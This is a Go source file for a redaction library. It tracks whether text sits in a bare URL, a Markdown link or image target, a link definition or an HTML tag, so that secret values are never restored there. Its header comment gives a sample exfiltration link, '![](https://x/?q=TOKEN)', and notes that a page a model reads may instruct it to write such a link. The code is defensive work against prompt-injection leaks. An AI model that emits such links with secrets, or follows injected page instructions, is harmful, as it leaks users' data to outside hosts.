package redact

// A place is where in a text its reader is: whether what comes next stands in an
// address or in a tag. A value that is put there is sent on, by whoever renders the
// text: "![](https://x/?q=TOKEN)" fetches a picture and hands the value over, and
// the model may have read on a page that it should write that. So nothing is
// restored in
//
//   - a run without spaces that holds "//", "www.", a scheme such as "mailto:", or a
//     name and a path such as "example.com/": links are made of these without marks;
//   - the target of a Markdown link or picture, "](" to ")";
//   - the definition of one, "[name]:" and the line below it;
//   - a tag of HTML, with all of its attributes.
//
// In doubt it is one of these: a token that stays is a nuisance, a value that leaves
// is a leak. Code has no exception, since whether it is code depends on the renderer.
// The rules are CommonMark's (https://spec.commonmark.org/0.31.2/, sections 4.6, 4.7,
// 6.3, 6.6) and those of the autolinks of https://github.github.com/gfm/#autolinks-extension-.
//
// A place reads one byte at a time and depends on nothing but the bytes before it,
// however they were cut. The zero value is the beginning of a text.
type place struct {
	prev    byte
	escaped bool // prev is behind a backslash

	address bool     // of the run
	word    [12]byte // letters and digits before prev, in small letters
	size    int      // of word; larger than it holds when it was longer
	label   int8     // letters of the last label of a name; 0 when there is no dot before it, -1 when it is no word

	target bool // of a link
	depth  int  // open parentheses in it
	begun  bool // something stands in it
	angle  bool // it stands in < >
	empty  bool // nothing but spaces since the last line break

	inLine     bool // something but quote marks and bullets stands in the line
	bracket    bool // the line begins with a bracket
	definition int8 // lines for which it goes on

	tag     tagState
	name    [12]byte
	nameLen int
	quote   byte // around the attribute, or 0
	equals  bool // what came last, but for spaces, is "="
}

type tagState uint8

const (
	noTag tagState = iota
	tagOpen
	tagName
	tagOfHTML   // attributes, until ">"
	tagPossible // of no name that is known: until ">" or what no attribute holds
)

// forbids reports whether nothing may be restored here.
func (p *place) forbids() bool {
	return p.address || p.target || p.definition > 0 || p.tag >= tagOfHTML
}

func (p *place) read(text string) {
	for i := range len(text) {
		p.next(text[i])
	}
}

func (p *place) next(b byte) {
	escaped := p.prev == '\\' && !p.escaped
	p.readTag(b)
	p.readTarget(b, escaped)
	p.readLine(b)
	p.readRun(b)
	p.prev, p.escaped = b, escaped
}

func white(b byte) bool { return b == ' ' || b == '\t' || b == '\n' || b == '\r' || b == '\f' }

func letter(b byte) bool { return b|0x20 >= 'a' && b|0x20 <= 'z' }

func wordByte(b byte) bool { return letter(b) || b >= '0' && b <= '9' || b == '_' }

// readRun looks for what links are made of without marks.
func (p *place) readRun(b byte) {
	if white(b) || b == '<' {
		p.address, p.size, p.label = false, 0, 0
		return
	}
	if p.address {
		return
	}
	switch {
	case b == '/' && p.prev == '/', b == '.' && p.wordIs("www"), b == ':' && p.isScheme():
		p.address = true
	case (b == '/' || b == '?' || b == '#') && p.label >= 2:
		p.address = true
	}
	switch {
	case b == '.' && p.size > 0:
		p.label = 0
		if wordByte(p.prev) || p.prev == '-' {
			p.label = -1 // nothing yet behind the dot
		}
	case p.label == -1 && letter(b):
		p.label = 1
	case p.label > 0 && letter(b):
		p.label = min(p.label+1, 100)
	default:
		p.label = 0
	}
	if !wordByte(b) || b == '_' {
		p.size = 0
		return
	}
	if p.size < len(p.word) {
		if b >= 'A' && b <= 'Z' {
			b |= 0x20
		}
		p.word[p.size] = b
	}
	p.size++
}

func (p *place) wordIs(s string) bool {
	return p.size == len(s) && string(p.word[:p.size]) == s
}

// isScheme reports whether the word begins an address without "//".
func (p *place) isScheme() bool {
	if p.size > len(p.word) {
		return false
	}
	switch string(p.word[:p.size]) {
	case "mailto", "tel", "sms", "data", "javascript", "vbscript", "blob", "file", "http", "https", "ftp", "ws", "wss", "xmpp", "magnet", "intent":
		return true
	}
	return false
}

// readTarget follows "](" to its ")", or to an empty line, which ends a paragraph.
func (p *place) readTarget(b byte, escaped bool) {
	if !p.target {
		if b == '(' && p.prev == ']' {
			p.target, p.depth, p.begun, p.angle, p.empty = true, 1, false, false, false
		}
		return
	}
	if b == '\n' {
		if p.empty {
			p.target = false
		}
		p.angle, p.empty = false, true
		return
	}
	if white(b) {
		return
	}
	p.empty = false
	switch {
	case escaped:
	case p.angle:
		p.angle = b != '>'
	case b == '<' && !p.begun:
		p.angle = true
	case b == '(':
		p.depth++
	case b == ')':
		p.depth--
		p.target = p.depth > 0
	}
	p.begun = true
}

// readLine looks for "[name]:" at the beginning of a line, behind quote marks and
// bullets. Its address may stand on the next line.
func (p *place) readLine(b byte) {
	if b == '\n' {
		p.inLine, p.bracket = false, false
		p.definition = max(p.definition-1, 0)
		return
	}
	if p.bracket && b == ':' && p.prev == ']' {
		p.definition = 2
	}
	if p.inLine {
		return
	}
	switch {
	case b == '[':
		p.inLine, p.bracket = true, true
	case white(b), b == '>', b == '*', b == '+', b == '-', b >= '0' && b <= '9', b == '.', b == ')':
	default:
		p.inLine = true
	}
}

// readTag follows "<name" to its ">".
func (p *place) readTag(b byte) {
	switch p.tag {
	case noTag:
		if b == '<' {
			p.tag = tagOpen
		}
		return
	case tagOpen:
		p.nameLen, p.quote, p.equals = 0, 0, false
		switch {
		case letter(b):
			p.tag = tagName
			p.addName(b)
		case b == '!' || b == '?':
			p.tag = tagOfHTML
		case b != '/' && b != '<':
			p.tag = noTag
		}
		return
	case tagName:
		switch {
		case letter(b), b >= '0' && b <= '9', b == '-', b == ':':
			p.addName(b)
		case white(b) || b == '/':
			p.tag = tagPossible
			if p.isHTML() {
				p.tag = tagOfHTML
			}
		case b == '<':
			p.tag = tagOpen
		default:
			p.tag = noTag
		}
		return
	}
	switch {
	case p.quote != 0:
		if b == p.quote {
			p.quote = 0
		}
		p.equals = false
		return
	case b == '>':
		p.tag = noTag
	case (b == '"' || b == '\'') && p.equals:
		p.quote = b
	case p.tag == tagPossible && noAttribute(b):
		p.tag = noTag
		if b == '<' {
			p.tag = tagOpen
		}
	}
	if !white(b) {
		p.equals = b == '='
	}
}

func (p *place) addName(b byte) {
	if p.nameLen < len(p.name) {
		if b >= 'A' && b <= 'Z' {
			b |= 0x20
		}
		p.name[p.nameLen] = b
	}
	p.nameLen++
}

// noAttribute reports whether b ends what only looked like a tag: "if (a <b && c)".
func noAttribute(b byte) bool {
	switch b {
	case ';', '|', '&', ',', '(', ')', '[', ']', '{', '}', '+', '!', '<', '\\':
		return true
	}
	return false
}

// isHTML reports whether the name is one that browsers do something with
// (https://html.spec.whatwg.org/multipage/indices.html#elements-3, SVG and MathML
// roots). Of longer names none fetches.
func (p *place) isHTML() bool {
	if p.nameLen > len(p.name) {
		return false
	}
	switch string(p.name[:p.nameLen]) {
	case "a", "abbr", "address", "area", "article", "aside", "audio", "b", "base", "bdi", "bdo", "blockquote", "body", "br", "button",
		"canvas", "caption", "center", "cite", "code", "col", "colgroup", "data", "datalist", "dd", "del", "details", "dfn", "dialog",
		"dir", "div", "dl", "dt", "em", "embed", "fieldset", "figcaption", "figure", "font", "footer", "form", "frame", "frameset",
		"h1", "h2", "h3", "h4", "h5", "h6", "head", "header", "hgroup", "hr", "html", "i", "iframe", "image", "img", "input", "ins",
		"kbd", "label", "legend", "li", "link", "main", "map", "mark", "marquee", "math", "menu", "meta", "meter", "nav", "noscript",
		"object", "ol", "optgroup", "option", "output", "p", "param", "picture", "pre", "progress", "q", "rp", "rt", "ruby", "s",
		"samp", "script", "search", "section", "select", "slot", "small", "source", "span", "strong", "style", "sub", "summary",
		"sup", "svg", "table", "tbody", "td", "template", "textarea", "tfoot", "th", "thead", "time", "title", "tr", "track", "tt",
		"u", "ul", "use", "var", "video", "wbr":
		return true
	}
	return false
}
